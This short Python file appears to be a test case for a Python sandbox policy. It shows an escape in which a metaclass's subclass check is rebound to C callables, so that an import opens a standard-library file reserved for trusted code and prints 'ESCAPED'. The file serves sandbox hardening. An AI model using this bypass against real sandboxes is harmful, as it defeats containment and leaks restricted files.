# technique: inside an import a C callable reads a file of the standard library's directory, which the policy gave to trusted code only
# goal: leak
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
import sys
FileIO = type(sys.stdin.buffer.raw)
kept = []


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(FileIO, ['@STDLIB@/os.py']))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
text = kept[0].read(40)
if text:
    print('ESCAPED', text)
